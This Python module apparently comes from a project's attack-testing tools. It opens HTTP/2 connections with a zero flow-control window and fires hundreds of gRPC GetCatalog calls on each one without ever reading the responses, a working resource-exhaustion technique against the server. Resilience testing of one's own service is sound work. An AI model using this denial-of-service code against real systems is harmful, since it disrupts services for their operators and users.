"""Calls whose answers are never taken: the client's window is 0."""

from __future__ import annotations

from collections import Counter
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from typing import Final

from tools.attacks.attack import Door
from tools.attacks.raw_http2 import raw_connection

# Its answer is the largest that needs no battle.
_METHOD: Final = "/gcs.v1.ContentService/GetCatalog"
_ON_EACH: Final = 500
_AT_ONCE: Final = 50


@asynccontextmanager
async def untaken_answers(door: Door, size: int, counts: Counter[str]) -> AsyncIterator[None]:
    """Makes `size` calls with the token, 500 on each connection, and takes no answer."""
    async with AsyncExitStack() as stack:
        for first in range(0, size, _ON_EACH):
            connection = await stack.enter_async_context(raw_connection(door, counts, token=door.token, window=0))
            for number in range(min(_ON_EACH, size - first)):
                connection.call(_METHOD, b"\x0a\x07starter")
                counts["sent"] += 1
                if number % _AT_ONCE == 0 and not await connection.flush():
                    break
        yield
